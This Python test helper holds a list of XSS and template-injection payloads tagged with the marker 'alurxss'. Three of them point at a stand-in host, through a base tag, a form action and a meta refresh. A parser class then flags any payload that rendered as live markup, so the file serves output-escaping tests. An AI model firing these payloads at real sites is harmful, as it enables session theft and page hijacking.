"""Hostile text, and what tells whether any of it came to life on a page."""

from html.parser import HTMLParser

PLANTED = "alurxss"
"""Stands in every piece of hostile text: where it is shown, a page was put to the test."""
XSS = [
    "<script>alurxss()</script>",
    '"><alurxss onmouseover=alurxss()>',
    "' onfocus=alurxss() autofocus alurxss='",
    "<img src=x onerror=alurxss()>",
    "<svg/onload=alurxss()>",
    "</textarea><alurxss>",
    "</title></style></script><alurxss>",
    "--><alurxss>",
    '<a href="javascript:alurxss()">alurxss</a>',
    "javascript:alurxss()//<alurxss>",
    "<iframe srcdoc='<script>alurxss()</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;alurxss&gt;'>",
    "{{7*7777}}${7*7777}<%= 7*7777 %>#{7*7777} alurxss",
    "\u202ealurxss\u2066<alurxss>\u2028\u00a0",
    "&lt;alurxss&gt;&#60;alurxss&#62;\\u003calurxss\\u003e",
    "<base href='//jahat.example/alurxss'><form action='//jahat.example/alurxss'><input name=x>",
    "<meta http-equiv=refresh content='0;url=//jahat.example/alurxss'>",
    "<a hx-get='/keluar' hx-trigger='load' data-alurxss>alurxss</a>",
]
"""After the OWASP cheat sheets: breaking out of text, attribute, comment, script and template; htmx is a way too."""
URLS = {"href", "src", "action", "formaction", "srcdoc", "xlink:href", "data", "poster", "hx-get", "hx-post"}


class LiveInput(HTMLParser):
    """Reads a page as a browser would, and notes whatever of the corpus became markup in it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note elements and attributes that no template of ours has."""
        given = dict(attrs)
        if tag == PLANTED or tag in ("iframe", "object", "embed", "base", "math", "mglyph"):
            self.faults.append(f"<{tag}>")
        if tag == "script":
            self._script = True
            if not given.get("src"):
                self.faults.append("<script> of a page")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on") or PLANTED in name or name == "style":
                self.faults.append(f"{tag} {name}")
            target = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if name in URLS and (target.startswith(("javascript:", "data:text", "vbscript:")) or "//jahat" in target):
                self.faults.append(f"{tag} {name}={target[:40]}")

    def handle_endtag(self, tag: str) -> None:
        """Leave a script."""
        self._script = self._script and tag != "script"

    def handle_data(self, data: str) -> None:
        """Note a template that was worked out, and hostile text inside a script."""
        if "54439" in data:
            self.faults.append("a template was worked out")
        if self._script and data.strip():
            self.faults.append("text inside a script")
